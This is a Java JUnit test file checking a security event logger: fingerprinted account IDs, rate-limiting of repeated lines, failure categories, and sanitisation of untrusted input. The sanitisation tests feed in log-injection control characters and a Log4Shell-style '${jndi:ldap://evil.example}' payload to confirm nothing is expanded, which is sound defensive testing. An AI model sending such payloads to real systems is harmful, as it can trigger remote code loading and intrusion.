// SPDX-License-Identifier: Apache-2.0
package dev.trivet.log;

import static org.assertj.core.api.Assertions.assertThat;

import dev.trivet.config.ApplicationName;
import dev.trivet.config.Secret;
import dev.trivet.ee.AtlassianUnavailableException;
import dev.trivet.ee.GrantEndedException;
import dev.trivet.ee.MisconfiguredException;
import dev.trivet.ee.SignInRefusedException;
import dev.trivet.model.ErrorCode;
import dev.trivet.model.FailureCategory;
import dev.trivet.story.HeardLog;
import java.time.Duration;
import java.util.HashSet;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class SecurityLogTest {

  private static final ApplicationName APP = new ApplicationName("/app");

  private static final String MIA = "5b10ac8d82e05b22cc7d4ef5";

  private final AtomicLong now = new AtomicLong(Long.MAX_VALUE);
  private final HeardLog heard = new HeardLog();
  private final SecurityLog log = new SecurityLog(APP, new Secret("s3cr3t"), now::get);

  @AfterEach
  void close() {
    heard.close();
  }

  private String line() {
    assertThat(heard.lines()).hasSize(1);
    return heard.lines().get(0);
  }

  private static String fingerprint(String line) {
    Matcher matcher = Pattern.compile("account (\\S{8}) \\(/app\\)$").matcher(line);
    assertThat(matcher.find()).as(line).isTrue();
    return matcher.group(1);
  }

  private String fingerprintBy(String secret, String account) {
    int before = heard.lines().size();
    new SecurityLog(APP, new Secret(secret), now::get)
        .happened(SecurityEvent.SIGNED_OUT)
        .account(account)
        .write();
    return fingerprint(heard.lines().get(before));
  }

  @Test
  void line_saysWhatAndWho_byNumberAndFingerprints() {
    log.happened(SecurityEvent.SIGN_IN_COMPLETED)
        .flow("flow")
        .account(MIA)
        .from("2001:db8::1")
        .write();

    assertThat(line())
        .matches(
            "INFO \\[TRV-0902] sign-in completed: flow \\S{8}, account \\S{8}, from 2001:db8::1"
                + " \\(/app\\)")
        .doesNotContain(MIA);
  }

  @Test
  void fingerprint_isTheSameOnEveryNode_andNoneWithoutTheSecret() {
    assertThat(fingerprintBy("s3cr3t", MIA)).isEqualTo(fingerprintBy("s3cr3t", MIA));
    assertThat(fingerprintBy("s3cr3t", MIA)).isNotEqualTo(fingerprintBy("other", MIA));
    assertThat(fingerprintBy("s3cr3t", MIA)).isNotEqualTo(fingerprintBy("s3cr3t", MIA + "x"));
  }

  @Test
  void repetition_isOneLineASecond_withTheCountOfTheRest() {
    for (int i = 0; i < 100_000; i++) {
      log.refused(ErrorCode.STATE_UNKNOWN, "sign-in refused").correlationId("0f3a9c1e").write();
      if (i == 49_999) {
        now.addAndGet(TimeUnit.SECONDS.toNanos(1));
      }
    }
    now.addAndGet(TimeUnit.SECONDS.toNanos(1));
    log.refused(ErrorCode.STATE_UNKNOWN, "sign-in refused").correlationId("last").write();

    assertThat(heard.lines())
        .containsExactly(
            "INFO [TRV-0201] sign-in refused: class user (/app, 0f3a9c1e)",
            "INFO [TRV-0201] sign-in refused: class user, and 49999 more (/app, 0f3a9c1e)",
            "INFO [TRV-0201] sign-in refused: class user, and 49999 more (/app, last)");
  }

  @Test
  void otherReason_isALineOfItsOwn() {
    log.refused(ErrorCode.STATE_UNKNOWN, "sign-in refused").write();
    log.refused(ErrorCode.DECLINED, "sign-in refused").write();
    log.refused(ErrorCode.NOT_SIGNED_IN, "request refused").write();

    assertThat(heard.lines())
        .containsExactly(
            "INFO [TRV-0201] sign-in refused: class user (/app)",
            "INFO [TRV-0202] sign-in refused: class user (/app)",
            "FINE [TRV-0101] request refused: class user (/app)");
  }

  /** Else the operator would not see why the circuit breaker is open. */
  @Test
  void failure_isNotLeftOut_forRefusalsOfTheCircuitBreaker() {
    ErrorCode code = ErrorCode.UNAVAILABLE;
    log.failed(
            new AtlassianUnavailableException(code, "open", null, Duration.ofSeconds(2)), "refused")
        .write();
    log.failed(new AtlassianUnavailableException(code, "connection refused", null, null), "failed")
        .write();

    assertThat(heard.lines()).hasSize(2).last().asString().contains("connection refused");
  }

  @Test
  void failure_saysWhoseBusinessItIs_andItsNumberOnce() {
    log.failed(new AtlassianUnavailableException("away", null), "sign-in failed").write();
    log.failed(new MisconfiguredException(ErrorCode.CLIENT_REFUSED, "no"), "sign-in failed")
        .write();
    log.failed(new SignInRefusedException(ErrorCode.CODE_REFUSED, "old"), "sign-in failed").write();
    log.failed(ErrorCode.FOREIGN_ADDRESS, FailureCategory.CONFIGURATION, "answered", "no").write();

    assertThat(heard.lines())
        .containsExactly(
            "WARNING [TRV-0301] sign-in failed: away, class transient (/app)",
            "SEVERE [TRV-0302] sign-in failed: no, class configuration (/app)",
            "INFO [TRV-0204] sign-in failed: old, class user (/app)",
            "SEVERE [TRV-0701] answered: no, class configuration (/app)");
  }

  @Test
  void whatBroke_isABug_orTheStoresTrouble() {
    log.broken(ErrorCode.GUARD_FAILED, "broken", new IllegalStateException()).write();
    AtlassianUnavailableException away =
        new AtlassianUnavailableException(ErrorCode.STORE_UNAVAILABLE, "no database", null, null);
    log.broken(ErrorCode.STORE_UNAVAILABLE, "broken", away).write();

    assertThat(heard.lines())
        .containsExactly(
            "SEVERE [TRV-0103] broken: class internal (/app) by java.lang.IllegalStateException",
            "SEVERE [TRV-0501] broken: class transient (/app)"
                + " by dev.trivet.ee.AtlassianUnavailableException");
  }

  @Test
  void whatIsNoAttackersDoing_isNeverLeftOut() {
    GrantEndedException why = new GrantEndedException("the answer was 'invalid_grant'");
    log.ended(why).account(MIA).write();
    log.ended(why).account(MIA).write();

    assertThat(heard.lines())
        .hasSize(2)
        .allMatch(
            line ->
                line.matches(
                    "INFO \\[TRV-0303] grant ended: the answer was 'invalid_grant', account \\S{8}"
                        + " \\(/app\\)"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"\r\n", "\n", "\u001b[31m", "\u2028", "\u202e", "\u200b", "\u0000"})
  void lineBreaksAndUnseenCharacters_stayOut(String odd) {
    log.refused(ErrorCode.DECLINED, "a" + odd + "b").from("1.2.3.4" + odd + "x").write();

    assertThat(line()).matches("INFO \\[TRV-0202] a[?\\[31m]+b: class user, from [?] \\(/app\\)");
  }

  @ParameterizedTest
  @ValueSource(strings = {"{0}", "%n%s", "${jndi:ldap://evil.example}", "{}"})
  void nothingIsExpanded(String odd) {
    log.refused(ErrorCode.DECLINED, odd).write();

    assertThat(line()).isEqualTo("INFO [TRV-0202] " + odd + ": class user (/app)");
  }

  @ParameterizedTest
  @EnumSource(SecurityEvent.class)
  void event_hasANumberOfItsOwn_thatNoErrorHas(SecurityEvent event) {
    Set<String> taken = new HashSet<>();
    for (ErrorCode code : ErrorCode.values()) {
      taken.add(code.number());
    }
    for (SecurityEvent other : SecurityEvent.values()) {
      assertThat(other == event || taken.add(other.number())).isTrue();
    }
    assertThat(taken).doesNotContain(event.number());
  }
}
